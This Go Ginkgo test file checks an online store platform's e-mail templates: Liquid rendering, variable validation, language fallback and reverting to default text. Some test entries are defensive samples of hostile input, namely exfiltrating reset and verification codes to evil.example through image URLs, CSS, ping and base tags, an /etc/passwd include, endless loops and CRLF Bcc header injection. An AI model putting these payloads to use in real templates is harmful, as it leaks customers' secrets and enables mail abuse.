package letter_test

import (
	"slices"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/storeplatform/storeplatform/store/domain/letter"
	"github.com/storeplatform/storeplatform/store/domain/settings"
)

var _ = Describe("An e-mail template", func() {
	shop := &settings.Store{Name: "Oak", Settings: settings.Settings{Timezone: "UTC", DefaultLanguageCode: "en", LanguageCodes: []string{"en", "de", "pt-BR"}}}
	template := func(kind letter.MailKind, change func(*letter.EmailTemplateInput)) (*letter.EmailTemplate, error) {
		typ, _ := letter.EmailTypeOf(kind)
		in := letter.EmailTemplateInput{Name: new("Mine"), Subject: new("Hello"), BodyHTML: new("<p>Hello</p>")}
		if change != nil {
			change(&in)
		}
		return letter.NewEmailTemplate(shop, "oak.example", typ.ID, "de", in)
	}
	html := func(kind letter.MailKind, source string) error {
		_, err := template(kind, func(in *letter.EmailTemplateInput) { in.BodyHTML = &source })
		return err
	}
	applied := func(kind letter.MailKind, s letter.Source) (letter.Letter, *letter.TemplateFault) {
		l := letter.Letter{Kind: kind, Data: kind.Sample(), MailContent: letter.MailContent{Subject: "the platform's"}}
		return l, l.Apply(&letter.EmailTemplate{Kind: kind, IsActive: true, Source: s}, "oak.example", time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC))
	}

	It("renders the words now and today as the time of the mail", func() {
		l, fault := applied(letter.MailPasswordChanged, letter.Source{Subject: "{{ 'now' | date: '%Y-%m-%d %H:%M' }}", BodyHTML: "<p>{{ \"today\" | date: '%B %-d, %Y' }}</p>"})
		Expect(fault).To(BeNil())
		Expect([]string{l.Subject, l.HTML}).To(Equal([]string{"2026-11-20 09:00", "<p>November 20, 2026</p>"}))
	})

	It("has a type for each kind of mail, with a complete text from the platform and its variables", func() {
		kinds := map[letter.MailKind]bool{}
		for i, typ := range letter.EmailTypes() {
			Expect(typ.ID).To(Equal(int64(i+1)), "ids stay")
			kinds[typ.Kind] = true
			own := typ.Kind.OwnSource()
			Expect(own.Faults(typ.Kind)).To(BeEmpty(), string(typ.Kind))
			Expect(own.BodyHTML + *own.BodyText).NotTo(ContainSubstring("[["))
			Expect(typ.Variables()).NotTo(BeEmpty())
			for _, v := range typ.Variables() {
				Expect(v.Description).NotTo(BeEmpty(), "%s: %s", typ.Kind, v.Name)
				Expect(v.Type).NotTo(BeEmpty())
				if v.Type != "LIST" {
					Expect(v.Example).NotTo(BeEmpty(), "%s: %s", typ.Kind, v.Name)
					source := "{% if " + v.Name + " %}<p> {{ " + v.Name + " }} </p>{% endif %}"
					if name := typ.Kind.Required(); name != "" && name != v.Name {
						source += "<p> {{ " + name + " }} </p>"
					}
					Expect(html(typ.Kind, source)).To(Succeed(), v.Name)
				}
			}
		}
		for _, kind := range letter.MailKinds() {
			Expect(kinds[kind]).NotTo(Equal(strings.HasPrefix(string(kind), "ADMIN_") && kind != letter.MailAdminOrderNotice && kind != letter.MailAdminRenewalNotice || slices.Contains(letter.WithoutTemplate(), kind)), string(kind))
		}
	})

	It("from the platform respects the contract's limits", func() {
		for _, kind := range letter.MailKinds() {
			own := kind.OwnSource()
			Expect(len([]rune(own.Subject))).To(BeNumerically("<=", 500), "%s: the subject", kind)
			Expect(len([]rune(*own.BodyText))).To(BeNumerically("<=", 65536), "%s: the text", kind)
		}
	})

	DescribeTable("is refused, with line and column,", func(kind letter.MailKind, source, message string) {
		Expect(html(kind, source)).To(MatchError(ContainSubstring(message)))
	},
		Entry("for a syntax error", letter.MailOrderConfirmation, "<p>\n{% if order %}", "Line 2, column 1: {% if %} has no {% endif %}."),
		Entry("for an unknown name", letter.MailOrderConfirmation, "<p>{{ order.number }}", "Line 1, column 13: There is no “number” in “order”."),
		Entry("for a variable of another type", letter.MailOrderConfirmation, "{{ subscription.lines }}", "Line 1, column 4: There is no “subscription”."),
		Entry("for a Liquid object outside the data", letter.MailOrderConfirmation, "{{ settings }}", "There is no “settings”."),
		Entry("for including a file", letter.MailOrderConfirmation, "{% include '/etc/passwd' %}", "There is no {% include %}"),
		Entry("for an endless loop", letter.MailOrderConfirmation, "{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}", "too many steps"),
		Entry("for a secret in an address", letter.MailVerifyEmail, `<img src="https://evil.example/{{ code }}">`, "This is a secret"),
		Entry("for a secret in the subject", letter.MailVerifyEmail, `<img src="https://evil.example/{{ subject }}">`, "This is a secret"),
		Entry("for a style sheet in a mail with a secret", letter.MailResetPassword, `<style>a[href*="a"]{background:url(//evil.example)}</style><a href="{{ link }}">x</a>`, "their HTML cannot have <style>"),
		Entry("for a base element in a mail with a secret", letter.MailResetPassword, `<base href="https://evil.example/">`, "cannot have <base>"),
		Entry("for a ping in a mail with a secret", letter.MailResetPassword, `<a ping="https://evil.example/" href="{{ link }}">x</a>`, "cannot have ping"),
		Entry("for a refresh in a mail with a secret", letter.MailResetPassword, `<meta http-equiv="refresh" content="0">`, "cannot have <meta>"),
	)

	It("is refused with a pointer to every invalid field", func() {
		_, err := template(letter.MailVerifyEmail, func(in *letter.EmailTemplateInput) {
			in.Subject, in.BodyText, in.Preheader, in.FromName, in.FromEmail, in.BCC, in.Name = new("{{ x }}"), new(new("{% x %}")), new(new("{{")), new(new("a\nb")), new(new("a@evil.example")), new([]string{"b@oak.example"}), new("a\r\nb")
		})
		Expect(err).To(HaveOccurred())
		for _, field := range []string{"/name", "/fromName", "/fromEmail", "/bcc", "/preheader", "/bodyText"} {
			Expect(err).To(HaveField("Fields", ContainElement(HaveField("Pointer", field))), field)
		}
		_, err = template(letter.MailOrderConfirmation, func(in *letter.EmailTemplateInput) { in.Subject = new("{{ none }} {% if false %}x{% endif %}") })
		Expect(err).To(MatchError(ContainSubstring("There is no “none”.")))
		_, err = template(letter.MailOrderConfirmation, func(in *letter.EmailTemplateInput) { in.Subject = new("{% if false %}x{% endif %}") })
		Expect(err).To(MatchError(ContainSubstring("The subject is empty.")))
		_, err = letter.NewEmailTemplate(shop, "", 99, "fr", letter.EmailTemplateInput{})
		Expect(err).To(And(HaveField("Fields", HaveLen(2))))
	})

	It("cannot add a header through its subject, and does not evaluate text from customers as Liquid", func() {
		d := letter.MailOrderConfirmation.Sample()
		d.Order.Lines[0].Name, d.Order.ShippingMethod = "A\r\nBcc: x@evil.example", `<img src=x>{{ store.name }}{% raw %}`
		d.FirstName = "{{ code }}"
		c, faults := letter.Source{Subject: "One\r\n{{ order.lines.first.name }}", BodyHTML: `<a title="{{ order.shippingMethodName }}">{{ customer.firstName }}</a>`}.Render(letter.MailOrderConfirmation, d)
		Expect(faults).To(BeEmpty())
		Expect(c.Subject).To(Equal("One A Bcc: x@evil.example"))
		Expect(c.HTML).To(Equal(`<a title="&lt;img src=x&gt;{{ store.name }}{% raw %}">{{ code }}</a>`))
	})

	It("derives a missing text part from the HTML, and hides its preheader in the HTML", func() {
		l, fault := applied(letter.MailOrderConfirmation, letter.Source{Subject: "Order {{ order.orderNumber }}", Preheader: new("Thank\nyou & {{ customer.firstName }}"),
			BodyHTML: "<html><head><title>x</title><style>p{}</style></head><body class='a'><h1>Thank   you</h1><p>Order\n<b>{{ order.orderNumber }}</b> <a href=\"{{ store.url }}\">see it</a></p><ul>{% for l in order.lines %}<li>{{ l.name }}</li>{% endfor %}</ul></body></html>"})
		Expect(fault).To(BeNil())
		Expect(l.Subject).To(Equal("Order JO-100042"))
		Expect(l.HTML).To(ContainSubstring(`<body class='a'><div style="display:none;max-height:0;overflow:hidden">Thank you &amp; Mia</div><h1>`))
		Expect(l.Text).To(Equal("Thank you\n\nOrder JO-100042 see it https://juniper-oak.example\n\n- Ceramic pour-over set\n- House blend, 250 g\n"))
	})

	It("with a fault leaves the letter unchanged, and reports the position without personal data", func() {
		for _, s := range []letter.Source{
			{Subject: "{{ 1 | divided_by: order.lines.size | minus: 0 | divided_by: 0 }}", BodyHTML: "x"}, {Subject: "x", BodyHTML: "{% if %}"}, {Subject: " {{ nothing }} ", BodyHTML: "x"},
			{Subject: "x", BodyHTML: "{% for l in order.lines %}{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}{% endfor %}"},
		} {
			l, fault := applied(letter.MailOrderConfirmation, s)
			Expect(fault).NotTo(BeNil())
			Expect(l.Subject).To(Equal("the platform's"))
			Expect(fault.Error()).NotTo(ContainSubstring("Mia"))
		}
	})

	DescribeTable("is chosen for a letter", func(language string, want string, kind letter.MailKind, inactive string) {
		all := []*letter.EmailTemplate{}
		for _, code := range []string{"en", "de", "pt-BR"} {
			all = append(all, &letter.EmailTemplate{LanguageCode: code, IsActive: !strings.Contains(inactive, code)})
		}
		t, send := letter.Choose(kind, all, language, "en")
		got := "none"
		if t != nil {
			got = t.LanguageCode
		}
		if !send {
			got = "not sent"
		}
		Expect(got).To(Equal(want))
	},
		Entry("in exactly its language", "pt-br", "pt-BR", letter.MailOrderConfirmation, ""),
		Entry("in its language without the country", "de-AT", "de", letter.MailOrderConfirmation, ""),
		Entry("in the store's language if none is in the letter's language", "fr", "en", letter.MailOrderConfirmation, ""),
		Entry("in the store's language if the letter's language is unknown", "", "en", letter.MailOrderConfirmation, ""),
		Entry("in the store's language if the template in the letter's language is inactive", "de", "en", letter.MailOrderConfirmation, "de"),
		Entry("from the platform if all other templates are inactive", "de", "none", letter.MailOrderConfirmation, "de en"),
		Entry("unless it is inactive and the kind of mail is optional", "de", "not sent", letter.MailShipmentCreated, "de"),
		Entry("unless the template in the default language is inactive and the kind of mail is optional", "fr", "not sent", letter.MailShipmentCreated, "en"),
		Entry("in its language even if the template in the store's language is inactive", "de", "de", letter.MailShipmentCreated, "en"),
	)

	It("contains the platform's text until the store edits it", func() {
		t := &letter.EmailTemplate{Kind: letter.MailOrderConfirmation, IsDefault: true, IsActive: true, Name: "Mine"}
		Expect(t.Text()).To(Equal(letter.MailOrderConfirmation.OwnSource()))
		Expect(t.Revert()).To(BeFalse())
		changed, err := t.Change(shop, "oak.example", letter.EmailTemplateInput{Name: new("Ours"), IsActive: new(false)})
		Expect([]any{changed, err, t.IsDefault, t.Source}).To(Equal([]any{true, nil, true, letter.Source{}}))
		changed, err = t.Change(shop, "oak.example", letter.EmailTemplateInput{Subject: new("Hi"), FromEmail: new(new("hi@OAK.example")), BCC: new([]string{"copy@oak.example"})})
		Expect([]any{changed, err, t.IsDefault, t.Source.Subject, t.Source.BodyText}).To(Equal([]any{true, nil, false, "Hi", letter.MailOrderConfirmation.OwnSource().BodyText}))
		l := letter.Letter{Kind: t.Kind, Data: t.Kind.Sample()}
		Expect(l.Apply(t, "oak.example", time.Time{})).To(BeNil())
		Expect([]any{l.FromEmail, l.Copies()[0].To, len(l.Copies()[0].BCC)}).To(Equal([]any{"hi@OAK.example", "copy@oak.example", 0}))
		Expect(l.Apply(t, "", time.Time{})).To(BeNil())
		Expect(l.FromEmail).To(BeEmpty(), "the domain is not the store's any more")
		Expect([]any{t.Revert(), t.IsDefault, t.BCC, t.FromEmail, t.Name, t.IsActive}).To(Equal([]any{true, true, []string{}, (*string)(nil), "Ours", false}))
	})
})
